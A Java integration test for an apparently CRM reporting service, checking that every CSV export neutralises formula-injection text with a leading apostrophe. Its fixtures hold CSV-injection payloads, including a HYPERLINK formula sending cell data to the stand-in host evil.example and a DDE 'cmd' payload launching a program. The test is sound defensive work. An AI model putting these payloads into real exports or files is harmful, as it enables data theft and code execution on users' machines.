package io.atrium.reporting;

import static io.atrium.reporting.EventScript.contact;
import static io.atrium.reporting.EventScript.data;
import static io.atrium.reporting.EventScript.deal;
import static io.atrium.reporting.EventScript.event;
import static io.atrium.reporting.EventScript.unchecked;
import static org.assertj.core.api.Assertions.assertThat;

import io.atrium.platform.events.CloudEvent;
import io.atrium.platform.test.ApiClient;
import java.time.Duration;
import java.time.Instant;
import java.time.LocalDate;
import java.time.ZoneOffset;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.List;
import java.util.UUID;
import java.util.concurrent.ThreadLocalRandom;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.ObjectNode;

/**
 * CSV injection: every CSV export of reporting-service gets rows whose text starts with a formula character (from
 * names, titles, owners, lead sources, teams — and, for the views whose text is only enumerations, from a producer that
 * breaks its schema), and each such cell must arrive as text: a leading apostrophe, quoted. Numbers stay numbers.
 */
class CsvSafetyIntegrationTests extends IntegrationTest {

    private static final Pattern PLAIN_NUMBER = Pattern.compile("-?[0-9]+(\\.[0-9]+)?");

    @Test
    void everyCsvExportWritesHostileTextAsTextAndNumbersAsNumbers() {
        String tag = UUID.randomUUID().toString().substring(0, 8);
        String owner = "@SUM(1)-" + tag;
        String author = "-author-" + tag;
        String assignee = "=assignee-" + tag;
        String team = "\tteam " + tag;
        String pipelineName = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\") " + tag;
        String firstStage = "-1+1 " + tag;
        String secondStage = "\rstage " + tag;
        String title = "=1+1 " + tag;
        String leadSource = "+cmd|' /C calc'!A0 " + tag;
        String otherSource = "@lead " + tag;
        Instant created = Instant.now().truncatedTo(ChronoUnit.SECONDS).minus(Duration.ofDays(20));
        Instant closed = Instant.now().truncatedTo(ChronoUnit.SECONDS).minus(Duration.ofDays(2));
        LocalDate conversionDay =
                LocalDate.of(1990, 1, 1).plusDays(ThreadLocalRandom.current().nextInt(3650));
        Instant converted = conversionDay.atTime(12, 0).toInstant(ZoneOffset.UTC);

        UUID pipeline = UUID.randomUUID();
        UUID stage0 = UUID.randomUUID();
        UUID stage1 = UUID.randomUUID();
        UUID customer = UUID.randomUUID();
        UUID lead = UUID.randomUUID();
        UUID stalled = UUID.randomUUID();
        UUID won = UUID.randomUUID();
        UUID call = UUID.randomUUID();
        UUID ticket = UUID.randomUUID();

        List<CloudEvent> events = new ArrayList<>();
        ObjectNode pipelineData = data("crm.pipeline.created.v1");
        ObjectNode p = (ObjectNode) pipelineData.get("pipeline");
        p.put("id", pipeline.toString()).put("version", 1).put("name", pipelineName);
        ArrayNode stages = p.putArray("stages");
        stages.addObject()
                .put("id", stage0.toString())
                .put("name", firstStage)
                .put("probability", 10)
                .put("rottingDays", 14);
        stages.addObject()
                .put("id", stage1.toString())
                .put("name", secondStage)
                .put("probability", 50)
                .put("rottingDays", 14);
        events.add(event("crm.pipeline.created.v1", pipeline, 1, created, pipelineData));
        events.add(contact("crm.contact.created.v1", customer, 1, created, "Eve", "lead", leadSource, owner));

        ObjectNode stalledDeal = deal(
                "crm.deal.created.v1",
                stalled,
                1,
                pipeline,
                stage0,
                "open",
                "100.00",
                "EUR",
                owner,
                customer,
                created,
                created);
        ((ObjectNode) stalledDeal.get("deal")).put("title", title);
        events.add(event("crm.deal.created.v1", stalled, 1, created, stalledDeal));
        events.add(event(
                "crm.deal.created.v1",
                won,
                1,
                created,
                deal(
                        "crm.deal.created.v1",
                        won,
                        1,
                        pipeline,
                        stage1,
                        "open",
                        "250.50",
                        "EUR",
                        owner,
                        customer,
                        created,
                        created)));
        events.add(event(
                "crm.deal.won.v1",
                won,
                2,
                closed,
                deal(
                        "crm.deal.won.v1",
                        won,
                        2,
                        pipeline,
                        stage1,
                        "won",
                        "250.50",
                        "EUR",
                        owner,
                        customer,
                        created,
                        closed)));

        ObjectNode activity = data("crm.activity.created.v1");
        ObjectNode a = (ObjectNode) activity.get("activity");
        a.put("id", call.toString()).put("dealId", stalled.toString()).put("occurredAt", created.toString());
        a.put("createdBy", author).put("createdAt", created.toString()).put("updatedAt", created.toString());
        a.putArray("contactIds").add(customer.toString());
        a.putNull("companyId");
        events.add(event("crm.activity.created.v1", call, 1, created, activity));

        // Ticket status and priority are enumerations in the schema: only a producer that breaks it gets text there.
        ObjectNode ticketData = data("crm.ticket.created.v1");
        ObjectNode t = (ObjectNode) ticketData.get("ticket");
        t.put("id", ticket.toString())
                .put("assignee", assignee)
                .put("team", team)
                .put("priority", "@priority");
        t.put("status", "new").put("createdAt", created.toString()).put("updatedAt", created.toString());
        t.putNull("requesterContactId");
        t.putNull("companyId");
        events.add(unchecked("crm.ticket.created.v1", ticket, 1, created, ticketData));

        // Lifecycle stages too: this contact's stage is "=stage", and it changed on a day no other test uses.
        CloudEvent leadEvent =
                contact("crm.contact.created.v1", lead, 1, converted, "Mallory", "lead", otherSource, owner);
        ((ObjectNode) leadEvent.data().path("contact")).put("lifecycleStage", "=stage");
        events.add(unchecked("crm.contact.created.v1", lead, 1, converted, (ObjectNode) leadEvent.data()));

        script.send(events.toArray(CloudEvent[]::new));
        awaitApplied(events.toArray(CloudEvent[]::new));

        List<List<String>> board = csv("/api/v1/reports/pipeline?pipelineId=" + pipeline);
        assertThat(column(board, "pipeline")).containsOnly(neutralised(pipelineName));
        assertThat(column(board, "stage")).contains(neutralised(firstStage), neutralised(secondStage));
        assertThat(column(board, "total")).contains("100.00");
        assertThat(column(board, "probability")).contains("10", "50");

        List<List<String>> forecast = csv("/api/v1/reports/forecast?owner=" + owner);
        assertThat(column(forecast, "owner")).containsOnly(neutralised(owner));
        assertThat(column(forecast, "bestCase")).containsExactly("350.50");

        List<List<String>> performance = csv("/api/v1/reports/sales-performance?owner=" + owner);
        assertThat(column(performance, "owner")).containsExactly(neutralised(owner));
        assertThat(column(performance, "wonAmount")).containsExactly("250.50");

        List<List<String>> conversion = csv("/api/v1/reports/stage-conversion?pipelineId=" + pipeline);
        assertThat(column(conversion, "pipeline")).containsOnly(neutralised(pipelineName));
        assertThat(column(conversion, "stage")).containsExactly(neutralised(firstStage), neutralised(secondStage));

        List<List<String>> activities = csv("/api/v1/reports/activity?owner=" + author);
        assertThat(column(activities, "owner")).containsExactly(neutralised(author));
        assertThat(column(activities, "activities")).containsExactly("1");

        List<List<String>> stalledDeals = csv("/api/v1/reports/stalled-deals?owner=" + owner);
        assertThat(column(stalledDeals, "title")).containsExactly(neutralised(title));
        assertThat(column(stalledDeals, "owner")).containsExactly(neutralised(owner));
        assertThat(column(stalledDeals, "pipeline")).containsExactly(neutralised(pipelineName));
        assertThat(column(stalledDeals, "stage")).containsExactly(neutralised(firstStage));
        assertThat(column(stalledDeals, "amount")).containsExactly("100.00");
        assertThat(column(stalledDeals, "daysWithoutActivity")).containsExactly("20");

        List<List<String>> backlog = csv("/api/v1/reports/support/backlog?owner=" + assignee);
        assertThat(column(backlog, "priority")).containsExactly(neutralised("@priority"));
        assertThat(column(backlog, "tickets")).containsExactly("1");

        List<List<String>> byAssignee = csv("/api/v1/reports/support/performance?owner=" + assignee);
        assertThat(column(byAssignee, "assignee")).containsExactly(neutralised(assignee));
        List<List<String>> byTeam = csv("/api/v1/reports/support/performance?groupBy=team&owner=" + assignee);
        assertThat(column(byTeam, "team")).containsExactly(neutralised(team));

        List<List<String>> lifecycle = csv("/api/v1/reports/marketing/lifecycle?owner=" + owner);
        assertThat(column(lifecycle, "leadSource"))
                .containsExactlyInAnyOrder(neutralised(leadSource), neutralised(otherSource));
        assertThat(column(lifecycle, "lifecycleStage")).contains(neutralised("=stage"));

        List<List<String>> conversions = csv("/api/v1/reports/marketing/conversions?period=day&from=" + conversionDay
                + "&to=" + conversionDay.plusDays(1));
        assertThat(column(conversions, "toStage")).containsExactly(neutralised("=stage"));
        assertThat(column(conversions, "contacts")).containsExactly("1");

        List<List<String>> sources = csv("/api/v1/reports/marketing/lead-sources?owner=" + owner);
        assertThat(column(sources, "leadSource")).containsExactly(neutralised(leadSource));
        assertThat(column(sources, "wonAmount")).containsExactly("250.50");
    }

    /** What a spreadsheet shows for the cell: the text with the apostrophe that keeps it from being a formula. */
    private static String neutralised(String text) {
        return "'" + text;
    }

    /**
     * Fetches a CSV export and parses it (RFC 4180). Every cell that starts with a formula character must have been
     * quoted with a leading apostrophe; the only unquoted cells that may start with one are plain numbers.
     */
    private List<List<String>> csv(String path) {
        ApiClient.Response response = viewer.get(path + "&format=csv");
        assertThat(response.status()).as("%s %s", path, response.body()).isEqualTo(200);
        assertThat(response.contentType()).startsWith("text/csv");
        String body = response.body().asString();
        List<List<String>> rows = parse(body);
        assertThat(rows).as("%s: a header and rows", path).hasSizeGreaterThan(1);
        for (List<String> row : rows) {
            assertThat(row).as("%s: one cell per column", path).hasSameSizeAs(rows.getFirst());
        }
        assertThat(unsafeCells(body))
                .as("%s: cells a spreadsheet would run as formulas", path)
                .isEmpty();
        return rows;
    }

    private static List<String> column(List<List<String>> rows, String name) {
        int index = rows.getFirst().indexOf(name);
        assertThat(index).as("column %s in %s", name, rows.getFirst()).isNotNegative();
        return rows.subList(1, rows.size()).stream().map(r -> r.get(index)).toList();
    }

    /** RFC 4180: CRLF between records, quoted cells may hold commas, quotes (doubled) and line breaks. */
    static List<List<String>> parse(String csv) {
        List<List<String>> rows = new ArrayList<>();
        List<String> row = new ArrayList<>();
        StringBuilder cell = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < csv.length(); i++) {
            char c = csv.charAt(i);
            if (quoted) {
                if (c == '"' && i + 1 < csv.length() && csv.charAt(i + 1) == '"') {
                    cell.append('"');
                    i++;
                } else if (c == '"') {
                    quoted = false;
                } else {
                    cell.append(c);
                }
            } else if (c == '"') {
                quoted = true;
            } else if (c == ',') {
                row.add(cell.toString());
                cell.setLength(0);
            } else if (c == '\r' && i + 1 < csv.length() && csv.charAt(i + 1) == '\n') {
                row.add(cell.toString());
                cell.setLength(0);
                rows.add(row);
                row = new ArrayList<>();
                i++;
            } else {
                assertThat(c).as("a bare CR or LF outside quotes at %d", i).isNotIn('\r', '\n');
                cell.append(c);
            }
        }
        assertThat(quoted).as("an unterminated quote").isFalse();
        assertThat(cell.isEmpty() && row.isEmpty())
                .as("the file ends with CRLF")
                .isTrue();
        return rows;
    }

    /** The raw cells (as a spreadsheet reads them before unquoting) that would start a formula. */
    private static List<String> unsafeCells(String csv) {
        List<String> unsafe = new ArrayList<>();
        for (List<String> row : parse(csv)) {
            for (String cell : row) {
                if (!cell.isEmpty()
                        && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0
                        && !PLAIN_NUMBER.matcher(cell).matches()) {
                    unsafe.add(cell);
                }
            }
        }
        return unsafe;
    }
}
